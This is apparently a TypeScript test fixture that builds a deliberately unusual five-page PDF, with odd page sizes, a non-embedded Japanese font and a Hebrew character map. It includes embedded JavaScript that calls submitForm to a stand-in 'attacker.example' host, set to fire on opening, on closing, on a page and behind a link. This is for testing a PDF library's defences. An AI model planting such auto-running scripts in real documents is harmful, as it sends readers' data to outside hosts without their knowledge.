import { pdfOf, streamOf } from './makePdf.ts'

/** Maps the codes of A to D to the letters of a Hebrew word, in the order in which they stand on paper. */
const hebrew = `/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapType 2 def
  1 begincodespacerange <00> <FF> endcodespacerange
  4 beginbfchar <41> <05DD> <42> <05D5> <43> <05DC> <44> <05E9> endbfchar endcmap end end`

/** Of no file: the library maps its codes to letters, and the device draws them. */
export const japaneseFont = `<< /Type /Font /Subtype /Type0 /BaseFont /HeiseiMin-W3 /Encoding /UniJIS-UTF16-H
  /DescendantFonts [<< /Type /Font /Subtype /CIDFontType0 /BaseFont /HeiseiMin-W3
    /CIDSystemInfo << /Registry (Adobe) /Ordering (Japan1) /Supplement 2 >>
    /FontDescriptor << /Type /FontDescriptor /FontName /HeiseiMin-W3 /Flags 4 /FontBBox [0 -200 1000 900]
      /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 >> >>] >>`

/** What a hostile file tries: scripts at opening, on a page and behind a link, and a file of another host. */
const script = (words: string): string => `<< /S /JavaScript /JS (${words}) >>`
const attack = script('app.alert\\(1\\); this.submitForm\\("https://attacker.example/"\\);')

const page = (size: readonly [number, number], content: number, more = ''): string =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 ${size.join(' ')}] /Contents ${content} 0 R ${more}
    /Resources << /Font << /F1 6 0 R /F2 7 0 R /F3 8 0 R >> >> >>`
const words = (font: string, shown: string): Buffer =>
  streamOf(Buffer.from(`BT /${font} 24 Tf 40 60 Td ${shown} Tj ET 40 40 100 4 re f`))

/**
 * A file of five pages as other makers write them, and as attackers do: upright, landscape with Japanese whose font is not in
 * the file, right-to-left, one of 140 metres, and a small last one. Scripts run at opening, on pages and behind a link.
 */
export function oddPdf(): Uint8Array<ArrayBuffer> {
  return pdfOf({
    1: `<< /Type /Catalog /Pages 2 0 R /OpenAction ${attack} /AA << /WC ${attack} >>
      /Names << /JavaScript << /Names [(a) ${attack}] >> >> >>`,
    2: '<< /Type /Pages /Count 5 /Kids [10 0 R 11 0 R 12 0 R 13 0 R 14 0 R] >>',
    3: words('F1', '(Upright)'),
    4: words('F2', '<65E5672C8A9E>'),
    5: words('F3', '(ABCD)'),
    6: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    7: japaneseFont,
    8: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 9 0 R >>',
    9: streamOf(Buffer.from(hebrew)),
    10: page([612, 792], 3, `/AA << /O ${attack} >> /Annots [15 0 R]`),
    11: page([960, 540], 4),
    12: page([612, 792], 5),
    13: page([400_000, 400_000], 3),
    14: page([200, 200], 3),
    15: `<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A ${attack} >>`,
  })
}
